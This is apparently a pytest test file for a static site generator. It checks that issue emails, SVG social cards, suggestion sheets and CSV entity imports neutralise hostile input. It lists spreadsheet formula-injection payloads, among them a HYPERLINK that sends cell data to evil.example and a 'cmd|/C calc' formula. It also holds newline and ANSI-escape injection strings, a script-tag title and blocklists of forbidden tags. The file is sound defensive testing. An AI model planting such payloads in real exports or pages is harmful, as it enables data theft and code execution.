"""Attack strings in what browsers never show as a page of the site: mails, cards, sheets of names, tables."""

from __future__ import annotations

import csv
import datetime as dt
import email
import email.policy
import io
from typing import TYPE_CHECKING

import html5lib
import pytest
from lxml import etree

from site_gen.build import build_session, card_png
from site_gen.content import loader
from site_gen.content.records import Page
from site_gen.core.text import one_line
from site_gen.entities.suggestion_sheet import NamePassage, Suggestion, format_sheet, parse_sheet
from site_gen.pages.views import social_cards
from tests.support.attacks import ATTACKS
from tests.support.issue_sites import article_file, write_issue_site
from tests.support.sites import markdown_file, write_files

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Call

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "=1+1\n=2", "'=1", "=IMPORTXML(\"https://evil.example\")",
]  # fmt: skip
LINES = ["x\n[y] Evil", "x] [y", "[n] Voss", "# a\n[y] Evil", "a | b", "|", "x\r[y] Evil", "x\u2028[y] Evil", "\x1b[2J"]
FORBIDDEN = {"script", "iframe", "object", "embed", "form", "base", "svg", "math", "template", "plaintext", "link"}
XML_FORBIDDEN = FORBIDDEN - {"svg"} | {"foreignObject", "a", "use", "animate", "set"}


@pytest.fixture
def attacked_site(tmp_path: Path) -> Path:
    """Write a site whose week has a story for each attack string."""
    site = write_issue_site(
        tmp_path / "site",
        (
            article_file(
                n, f"2026-01-{5 + n % 7:02}", companies=["voss"], title=attack, site=attack, author=[attack],
                description=attack, source=f"https://a{n}.example/?q={attack}",
            )
            for n, attack in enumerate(ATTACKS)
        ),
    )  # fmt: skip
    head = "title: Mine <script>alert(1)</script>\nbase_url: https://notes.example/\ncards: all\n"
    note = markdown_file("\n\n".join(ATTACKS), title=ATTACKS[0])
    return write_files(site, {"content/site.yaml": head, "content/issues/2026-w02.md": note})


def test_the_mail_of_an_issue_runs_and_loads_nothing(call: Call, attacked_site: Path, tmp_path: Path) -> None:
    file = tmp_path / "mail.eml"
    done = call("issue", "2026-w02", "--eml", file, "--site", attacked_site)
    assert done.status == 0, done.err
    message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
    assert set(message.keys()) <= {"Subject", "X-Unsent", "MIME-Version", "Content-Type"}
    body = message.get_body(("html",))
    assert body is not None
    tree = html5lib.parse(body.get_content(), namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in FORBIDDEN | {"img"}, element.tag
        for key, value in element.attrib.items():
            assert not key.startswith("on"), key
            assert key not in {"href", "src"} or value.startswith(("https://", "http://")), value
        assert element.get("http-equiv", "").lower() != "refresh"


def test_cards_hold_text_alone(attacked_site: Path) -> None:
    with build_session.open_builder(attacked_site, attacked_site / "output", build_session.BuildOptions()) as builder:
        site = builder.load()[0]
        urls = [f"/articles/2026/note-{n}/" for n in range(len(ATTACKS))]
        for url in urls:
            svg = builder.render(Page(f"/cards{url}.png", "card.svg", social_cards.article_card, (url,), url))  # type: ignore[arg-type]
            root = etree.fromstring(svg, etree.XMLParser(resolve_entities=False))
            names = {etree.QName(element).localname for element in root.iter(etree.Element)}
            assert not names & XML_FORBIDDEN, names
            assert not [
                key for element in root.iter(etree.Element) for key in map(str, element.attrib) if key.startswith("on")
            ]
        assert site.config.cards == "all"
        card_png.png(svg, "card.svg")


def suggestion(name: str) -> Suggestion:
    return Suggestion(
        name=name, spellings=(name[::-1],), kind="company", maker=name, articles=2, outlets=1, count=3,
        first=dt.date(2026, 1, 1), last=None, passages=(NamePassage("content/articles/2026/x.md", name),), near=None,
        is_near_new=False, into="companies", file="content/companies/x.md", yes="y", is_deferred=False, rank=1.0,
        likelihood=0.5, reasons=(),
    )  # fmt: skip


@pytest.mark.parametrize("name", [*LINES, *FORMULAS, *ATTACKS])
def test_a_sheet_without_answers_has_none_whatever_the_names_are(name: str) -> None:
    assert parse_sheet("sheet.txt", format_sheet([suggestion(name)]), []) == []


def test_a_table_with_formulas_gives_their_text(call: Call, site: Path, tmp_path: Path) -> None:
    table = io.StringIO()
    strings = [*FORMULAS, *LINES, *ATTACKS]
    rows = [
        [f"Firm {n} {text}", "companies", text.replace(";", ","), f"https://firm{n}.example/", text]
        for n, text in enumerate(strings)
    ]
    csv.writer(table).writerows([["name", "kind", "names", "website", "=HYPERLINK(1)"], *rows])
    file = tmp_path / "firms.csv"
    file.write_text(table.getvalue(), encoding="utf-8", newline="")
    done = call("entity", "fill", file, "--add", "--site", site)
    assert all("it was left out here" in line for line in done.err.splitlines()), done.err
    companies = {entity.name: entity for entity in loader.load(site)[0].entities if entity.kind == "companies"}
    assert len(companies) == len(strings) + 2, "each row makes one, and no cell another"
    for row in rows:
        assert dict(companies[one_line(row[0])].facts)["=HYPERLINK(1)"] == one_line(row[4])
    assert call("build", "--no-cards", "--no-search", "--site", site).status == 0
    listed = call("entity", "check", "--site", site)
    assert "\x1b" not in done.out + done.err + listed.out
